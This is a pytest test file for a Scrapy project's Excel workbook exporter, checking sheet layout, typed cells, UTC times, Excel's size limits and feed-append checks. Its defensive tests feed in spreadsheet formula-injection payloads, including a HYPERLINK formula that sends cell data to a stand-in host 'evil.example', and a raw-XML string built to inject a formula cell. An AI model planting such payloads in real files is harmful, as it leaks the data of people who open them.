"""The Excel workbook exporter, written by XlsxWriter and read back with openpyxl.

A different library reads than writes, so a cell is checked as a spreadsheet sees it (type,
value, format), not as the writer meant it. openpyxl gives the stored text of a string cell
without Excel's ``_xHHHH_`` decoding (and decodes twice with ``rich_text=True``), so
``excel_texts()`` reads the sheet's XML and decodes each text run once, as Excel does.
"""

from __future__ import annotations

import io
import json
import logging
import math
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
import scrapy
from openpyxl.utils.escape import unescape

from pgy_spider import settings as project_settings
from pgy_spider.exporters import CSV_FIELDS
from pgy_spider.xlsxexport import (
    CELL_MAX_CHARS,
    SHEET_MAX_ROWS,
    XlsxItemExporter,
    fit_text,
    xlsx_feed_problem,
)
from tests.support.feeds import EMOJI_TITLE, REPO_ROOT, note
from tests.support.sample import NOTE_ID
from tests.support.xlsx import ALL_DIGIT_ID, EXPONENT_ID, HEADER, rows

FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=1+1",
)


def write_workbook(
    path: Path, items: list[Any], *, max_rows: int | None = None, **kwargs: Any
) -> Path:
    with path.open("wb") as file:
        exporter = XlsxItemExporter(file, **kwargs)
        if max_rows is not None:
            exporter.sheet_max_rows = max_rows
        exporter.start_exporting()
        for item in items:
            exporter.export_item(item)
        exporter.finish_exporting()
    return path


def load(path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(path)


MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def excel_texts(path: Path, index: int = 1) -> dict[str, str]:
    """Inline string cells of sheet ``index`` as Excel shows them: each text run decoded
    once (``_x005F_x0041_`` shows as ``_x0041_``), then the runs joined."""
    root = ElementTree.fromstring(sheet_xml(path, index))
    return {
        cell.attrib["r"]: "".join(unescape(t.text or "") for t in cell.iter(f"{MAIN_NS}t"))
        for cell in root.iter(f"{MAIN_NS}c")
        if cell.attrib.get("t") == "inlineStr"
    }


def sheet_xml(path: Path, index: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


# --- sheets, header, layout -------------------------------------------------------------------


def test_notes_and_creators_sheets_with_a_frozen_filtered_header(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "notes.xlsx", [note(), note(noteId="0" * 24)])
    book = load(path)
    assert book.sheetnames == ["notes", "creators"]
    sheet = book["notes"]
    assert [cell.value for cell in sheet[1]] == HEADER  # the CSV's columns, times marked UTC
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(HEADER)).column_letter}3"
    assert sheet.max_row == 3


def test_column_widths_follow_the_content(tmp_path: Path) -> None:
    sheet = load(write_workbook(tmp_path / "n.xlsx", [note()]))["notes"]
    width = {
        name: sheet.column_dimensions[sheet.cell(1, col).column_letter].width
        for col, name in enumerate(CSV_FIELDS, start=1)
    }
    assert width["content"] >= 60 > width["title"] >= 36 > width["noteId"] >= 26
    assert width["noteId"] > width["likeNum"] > width["type"]
    assert width["createdAt"] >= 20  # a whole date-time shows, not ####


def test_empty_feed_is_a_valid_workbook_with_headers(tmp_path: Path) -> None:
    book = load(write_workbook(tmp_path / "empty.xlsx", []))
    assert book.sheetnames == ["notes", "creators"]
    assert [cell.value for cell in book["notes"][1]] == HEADER
    assert book["notes"].max_row == 1 and book["creators"].max_row == 1


# --- cell types and values -----------------------------------------------------------------------


def test_cells_are_typed(tmp_path: Path) -> None:
    item = note(redId=None)
    sheet = load(write_workbook(tmp_path / "n.xlsx", [item]))["notes"]
    cells = dict(zip(HEADER, sheet[2], strict=True))
    for name in ("noteId", "noteLink", "noteType", "title", "content", "userId", "name"):
        assert cells[name].data_type == "s", name
        assert cells[name].number_format == "@", name  # Text: editing the cell keeps it text
        assert cells[name].value == item[name], name
    assert cells["title"].value == EMOJI_TITLE  # Chinese and emoji intact
    assert cells["name"].value == "曹操来了"
    for name in ("type", "createTime", "likeNum", "impNum", "imageCount", "videoDuration"):
        assert cells[name].data_type == "n" and cells[name].value == item[name], name
    assert cells["createTime"].value == 1707127804000  # epoch ms stays an exact number
    assert cells["metricsAllZero"].data_type == "b" and cells["metricsAllZero"].value is True
    assert cells["redId"].value is None  # None -> an empty cell
    assert cells["createTimeText"].value == "2024-02-05 18:10"  # the API's text, kept as text


def test_empty_text_is_an_empty_cell(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "n.xlsx", [note(title="", redId=None)])
    row = rows(load(path)["notes"])[0]
    assert row["title"].value is None and row["redId"].value is None
    assert "E2" not in excel_texts(path)  # not a "" string cell that COUNTA would count


def test_times_are_excel_datetimes_in_utc(tmp_path: Path) -> None:
    item = note(fetchedAt="2026-11-27T08:30:15.250Z")
    sheet = load(write_workbook(tmp_path / "n.xlsx", [item]))["notes"]
    cells = dict(zip(HEADER, sheet[2], strict=True))
    assert cells["createdAt (UTC)"].value == datetime(2024, 2, 5, 10, 10, 4)
    assert cells["updatedAt (UTC)"].value == datetime(2024, 2, 5, 14, 9, 46)
    assert cells["userUpdatedAt (UTC)"].value == datetime(2024, 2, 5, 10, 10, 4)
    assert cells["fetchedAt (UTC)"].value == datetime(2026, 11, 27, 8, 30, 15, 250000)
    for name in ("createdAt (UTC)", "fetchedAt (UTC)"):
        assert cells[name].is_date and cells[name].number_format == "yyyy-mm-dd hh:mm:ss"


def test_aware_datetimes_are_converted_to_utc_and_bad_times_kept_as_text(tmp_path: Path) -> None:
    from datetime import timedelta, timezone

    china = timezone(timedelta(hours=8))
    item = note(createdAt=datetime(2024, 2, 5, 18, 10, 4, tzinfo=china), updatedAt="昨天")
    cells = dict(
        zip(HEADER, load(write_workbook(tmp_path / "n.xlsx", [item]))["notes"][2], strict=True)
    )
    assert cells["createdAt (UTC)"].value == datetime(2024, 2, 5, 10, 10, 4)
    assert cells["updatedAt (UTC)"].value == "昨天"


def test_nested_values_are_compact_unescaped_json(tmp_path: Path) -> None:
    item = note()
    path = write_workbook(tmp_path / "n.xlsx", [item])
    cells = dict(zip(HEADER, load(path)["notes"][2], strict=True))
    assert cells["topics"].value == '["电影狙击手","曹操来了","明星"]'
    assert json.loads(cells["kol"].value) == item["kol"]
    assert json.loads(cells["imageUrls"].value) == item["imageUrls"]
    assert "北京" in cells["kol"].value
    assert "\\u" not in sheet_xml(path)


def test_ids_stay_text(tmp_path: Path) -> None:
    ids = {"noteId": ALL_DIGIT_ID, "userId": "000123", "redId": "1234567890123456789"}
    second = {"noteId": EXPONENT_ID, "userId": "6512E3", "redId": "1e5"}
    assert len(ALL_DIGIT_ID) == len(EXPONENT_ID) == 24
    path = write_workbook(tmp_path / "n.xlsx", [note(**ids), note(**second)])
    sheet = load(path)["notes"]
    for row, expected in zip(rows(sheet), (ids, second), strict=True):
        for key, value in expected.items():
            cell = row[key]
            assert cell.data_type == "s" and cell.value == value, key
            assert cell.number_format == "@", key
    # No "number stored as text" warnings on purpose-made text.
    assert 'numberStoredAsText="1"' in sheet_xml(path)


@pytest.mark.parametrize("title", FORMULA_TITLES)
def test_formula_looking_titles_stay_literal_strings(tmp_path: Path, title: str) -> None:
    path = write_workbook(tmp_path / "n.xlsx", [note(title=title, content=title)])
    cells = dict(zip(HEADER, load(path)["notes"][2], strict=True))
    for name in ("title", "content"):
        assert cells[name].data_type == "s", name  # not "f": never evaluated
        assert cells[name].value == title, name  # and no leading ' either: the workbook is exact
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    with zipfile.ZipFile(path) as archive:  # and no link was made of a URL-looking text
        assert not [name for name in archive.namelist() if "worksheets/_rels" in name]


def test_strings_that_look_like_urls_or_numbers_are_not_converted(tmp_path: Path) -> None:
    values = ["http://evil.example/", "mailto:a@b.c", "0012", "1e5", "3.14", "-7", "TRUE"]
    items = [note(title=value) for value in values]
    path = write_workbook(tmp_path / "n.xlsx", items)
    titles = [row["title"] for row in rows(load(path)["notes"])]
    assert [(cell.data_type, cell.value) for cell in titles] == [("s", v) for v in values]


def test_xml_and_excel_escapes_in_text_stay_literal(tmp_path: Path) -> None:
    # XlsxWriter's constant_memory mode writes "<r>...</r>" strings as raw XML: a title could
    # inject cells. And Excel decodes _xHHHH_ inside text.
    injection = '<r><t>a</t></r></is></c><c r="B2"><f>1+1</f></c><c><is><r><t>b_x0041_</t></r>'
    titles = [injection, "<r>_x0041__x0042_</r>", "_x0041_ and _x005F_", "<b>粗体</b> & <r>"]
    path = write_workbook(
        tmp_path / "n.xlsx", [note(title=t, noteId=f"{i:024x}") for i, t in enumerate(titles)]
    )
    texts = excel_texts(path)
    assert [texts[f"E{row}"] for row in range(2, 6)] == titles
    assert [texts[f"A{row}"] for row in range(2, 6)] == [f"{i:024x}" for i in range(4)]
    assert texts["B2"] == note()["noteLink"]  # where the injection aimed its formula
    assert "<f>" not in sheet_xml(path)
    # openpyxl sees the same cells: one string per title, no formula anywhere.
    sheet = load(path)["notes"]
    assert [row["title"].data_type for row in rows(sheet)] == ["s"] * 4


def test_control_characters_are_replaced_not_fatal(tmp_path: Path) -> None:
    title = "a\x00b\x01c\x0bd\x0ce\x1ff\ufffeg\ud800h"
    content = "第一行\r\n第二行\r第三行\n\t缩进"
    path = write_workbook(tmp_path / "n.xlsx", [note(title=title, content=content), note()])
    got = rows(load(path)["notes"])
    assert got[0]["title"].value == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh"
    assert got[0]["content"].value == "第一行\n第二行\n第三行\n\t缩进"
    assert got[1]["title"].value == EMOJI_TITLE  # the next row is unharmed


def test_numbers_excel_cannot_hold_exactly(tmp_path: Path) -> None:
    item = note(likeNum=2**70, impNum=10**15 - 1, readNum=-(10**16), videoDuration=math.nan)
    cells = dict(
        zip(HEADER, load(write_workbook(tmp_path / "n.xlsx", [item]))["notes"][2], strict=True)
    )
    assert (cells["likeNum"].data_type, cells["likeNum"].value) == ("s", str(2**70))
    assert (cells["impNum"].data_type, cells["impNum"].value) == ("n", 10**15 - 1)
    assert cells["readNum"].value == str(-(10**16))
    assert cells["videoDuration"].value is None  # NaN: empty, not a crash


# --- Excel's limits ------------------------------------------------------------------------------


def utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize("unit", ["长", "😋"], ids=["cjk", "emoji"])
def test_long_text_is_cut_with_a_visible_marker(tmp_path: Path, unit: str) -> None:
    content = "开头" + unit * 40_000 + "结尾"
    item = note(content=content)
    path = write_workbook(tmp_path / "n.xlsx", [item])
    cell = rows(load(path)["notes"])[0]["content"].value
    assert utf16_units(cell) <= CELL_MAX_CHARS == 32_767
    assert utf16_units(cell) > CELL_MAX_CHARS - 100  # cut at the limit, not far before it
    assert cell.startswith("开头" + unit * 1000)
    kept = cell[: cell.index("… [cut: ")]
    assert content.startswith(kept)
    rest = len(content) - len(kept)
    assert cell.endswith(f"… [cut: {rest:,} more characters; an Excel cell holds at most 32,767]")
    assert item["content"] == content  # the item (feeds, MongoDB) keeps the whole text


def test_text_at_the_limit_is_not_cut() -> None:
    exact = "长" * CELL_MAX_CHARS
    assert fit_text(exact) == exact
    assert fit_text("😋" * (CELL_MAX_CHARS // 2)) == "😋" * (CELL_MAX_CHARS // 2)
    assert "cut" in fit_text("😋" * (CELL_MAX_CHARS // 2 + 1))


def test_notes_continue_on_further_sheets_at_the_row_limit(tmp_path: Path) -> None:
    assert XlsxItemExporter.sheet_max_rows == SHEET_MAX_ROWS == 1_048_576  # Excel's own
    ids = [f"{i:024x}" for i in range(5)]
    path = write_workbook(tmp_path / "n.xlsx", [note(noteId=i) for i in ids], max_rows=3)
    book = load(path)
    assert book.sheetnames == ["notes", "notes (2)", "notes (3)", "creators"]
    got = []
    for name in ("notes", "notes (2)", "notes (3)"):
        sheet = book[name]
        assert sheet.max_row <= 3  # the header counts as one of the sheet's rows
        assert [cell.value for cell in sheet[1]] == HEADER
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:AF{sheet.max_row}"
        got += [row["noteId"].value for row in rows(sheet)]
    assert got == ids  # every note once, in order


def test_creators_continue_on_further_sheets_at_the_row_limit(tmp_path: Path) -> None:
    items = [note(userId=f"u{i}", kol=None) for i in range(3)]
    book = load(write_workbook(tmp_path / "n.xlsx", items, max_rows=2))
    assert book.sheetnames[-3:] == ["creators", "creators (2)", "creators (3)"]
    ids = [book[name]["A2"].value for name in book.sheetnames[-3:]]
    assert ids == ["u0", "u1", "u2"]


# --- creators ------------------------------------------------------------------------------------


def test_one_creator_row_per_user_id(tmp_path: Path) -> None:
    first = note(noteId="1" * 24)
    later = note(noteId="2" * 24)
    later["kol"] = {**later["kol"], "fansNum": 500_000, "location": "上海"}
    other = note(noteId="3" * 24, userId="000777", name="小王😀", kol=None)
    nobody = note(noteId="4" * 24, userId=None, kol=None)
    book = load(write_workbook(tmp_path / "n.xlsx", [first, later, other, nobody, note()]))
    sheet = book["creators"]
    header = [cell.value for cell in sheet[1]]
    assert header == [
        "userId",
        "nickName",
        "fansNum",
        "picturePrice",
        "videoPrice",
        "currentLevel",
        "location",
        "contentTags",
        "notesInFile",
    ]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:I3"
    creators = {row["userId"].value: {k: c.value for k, c in row.items()} for row in rows(sheet)}
    assert creators == {
        "62060e8c0000000010008f55": {
            "userId": "62060e8c0000000010008f55",
            "nickName": "曹操来了",
            "fansNum": 498837,  # the latest note's values win
            "picturePrice": 0,
            "videoPrice": 200000,
            "currentLevel": 2,
            "location": "北京",
            "contentTags": "文化艺术: 科普",
            "notesInFile": 3,
        },
        "000777": {  # no kol data: the name on the note, the count, nothing made up
            "userId": "000777",
            "nickName": "小王😀",
            "fansNum": None,
            "picturePrice": None,
            "videoPrice": None,
            "currentLevel": None,
            "location": None,
            "contentTags": None,
            "notesInFile": 1,
        },
    }
    assert rows(sheet)[1]["userId"].data_type == "s"  # an all-digit userId stays text


# --- options and items ---------------------------------------------------------------------------


def test_fields_to_export_renames_and_adds_columns(tmp_path: Path) -> None:
    fields = {"noteId": "ID", "createdAt": "created", "raw": "raw"}
    item = note()
    path = write_workbook(tmp_path / "n.xlsx", [item], fields_to_export=fields)
    sheet = load(path)["notes"]
    assert [cell.value for cell in sheet[1]] == ["ID", "created (UTC)", "raw"]
    row = rows(sheet)[0]
    assert row["ID"].value == NOTE_ID and row["created (UTC)"].value == datetime(
        2024, 2, 5, 10, 10, 4
    )
    assert json.loads(row["raw"].value) == item["raw"]


class NoteItem(scrapy.Item):
    noteId = scrapy.Field()
    title = scrapy.Field(serializer=str.upper)
    kol = scrapy.Field()


def test_scrapy_items_with_serializers(tmp_path: Path) -> None:
    item = NoteItem(noteId=NOTE_ID, title="abc=1", kol={"nickName": "阿", "fansNum": 3})
    path = write_workbook(tmp_path / "n.xlsx", [item], fields_to_export=["noteId", "title"])
    row = rows(load(path)["notes"])[0]
    assert row["noteId"].value == NOTE_ID and row["title"].value == "ABC=1"


def test_unknown_options_are_refused() -> None:
    with pytest.raises(TypeError, match="strings_to_numbers"):
        XlsxItemExporter(io.BytesIO(), strings_to_numbers=True)


def test_an_appended_stream_is_reported(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "n.xlsx"
    path.touch()
    with caplog.at_level(logging.ERROR, logger="pgy_spider.xlsxexport"), path.open("ab") as fh:
        XlsxItemExporter(fh)
    assert "cannot be appended to" in caplog.text


def test_writes_to_unseekable_streams(tmp_path: Path) -> None:
    class Pipe(io.RawIOBase):  # like stdout into a pipe: write only, no tell/seek
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: Any) -> int:
            self.data += bytes(b)
            return len(b)

    pipe = Pipe()
    exporter = XlsxItemExporter(pipe)
    exporter.start_exporting()
    exporter.export_item(note())
    exporter.finish_exporting()
    (tmp_path / "piped.xlsx").write_bytes(bytes(pipe.data))
    assert load(tmp_path / "piped.xlsx")["notes"]["E2"].value == EMOJI_TITLE


def test_excel_library_is_imported_only_when_a_workbook_is_written() -> None:
    code = (
        "import sys; from scrapy.utils.misc import load_object; "
        "from pgy_spider.settings import FEED_EXPORTERS; "
        "cls = load_object(FEED_EXPORTERS['xlsx']); "
        "assert cls.__name__ == 'XlsxItemExporter'; "
        "import pgy_spider.preflight; "
        "assert 'xlsxwriter' not in sys.modules, 'imported at start-up'"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code], cwd=REPO_ROOT, capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    assert project_settings.FEED_EXPORTERS["xlsx"] == "pgy_spider.xlsxexport.XlsxItemExporter"


# --- xlsx_feed_problem(): a workbook cannot be appended to ----------------------------------------


@pytest.mark.parametrize(
    "uri",
    ["notes.xlsx", "out/%(time)s.xlsx", "file:///tmp/notes.xlsx", r"C:\data\notes.xlsx"],
)
def test_appending_to_a_local_workbook_is_a_problem(uri: str) -> None:
    problem = xlsx_feed_problem({uri: {"format": "xlsx"}}, resuming=False)  # what -o gives
    assert problem is not None
    assert f"-O {uri}" in problem and "append" in problem and "\n" not in problem
    explicit = xlsx_feed_problem({uri: {"format": "xlsx", "overwrite": False}}, resuming=False)
    assert explicit == problem


@pytest.mark.parametrize(
    ("uri", "options"),
    [
        ("notes.xlsx", {"format": "xlsx", "overwrite": True}),  # -O
        ("stdout:", {"format": "xlsx"}),  # a fresh stream every run
        ("s3://bucket/notes.xlsx", {"format": "xlsx"}),  # S3/GCS always replace the object
        ("gs://bucket/notes.xlsx", {"format": "xlsx", "overwrite": False}),
        ("ftp://host/notes.xlsx", {"format": "xlsx"}),  # FTP replaces unless told otherwise
        ("notes.csv", {"format": "csv"}),  # other formats append fine
        ("notes.xlsx.jsonl", {"format": "jsonlines"}),
    ],
)
def test_replacing_a_workbook_is_fine(uri: str, options: dict[str, Any]) -> None:
    assert xlsx_feed_problem({uri: options}, resuming=False) is None


def test_appending_over_ftp_is_a_problem() -> None:
    feeds = {"ftp://host/notes.xlsx": {"format": "xlsx", "overwrite": False}}
    assert "append" in (xlsx_feed_problem(feeds, resuming=False) or "")


def test_a_resumed_job_cannot_write_a_workbook() -> None:
    feeds = {
        "notes.jsonl": {"format": "jsonlines"},
        "notes.xlsx": {"format": "xlsx", "overwrite": True},
    }
    problem = xlsx_feed_problem(feeds, resuming=True)
    assert problem is not None and "\n" not in problem
    for words in ("JOBDIR", "'notes.xlsx'", "-o notes.jsonl", "new JOBDIR"):
        assert words in problem
    assert xlsx_feed_problem(feeds, resuming=False) is None
    assert xlsx_feed_problem({"notes.jsonl": {"format": "jsonlines"}}, resuming=True) is None


def test_the_append_problem_is_named_first() -> None:
    feeds = {"a.xlsx": {"format": "xlsx", "overwrite": True}, "b.xlsx": {"format": "xlsx"}}
    assert "-O b.xlsx" in (xlsx_feed_problem(feeds, resuming=True) or "")
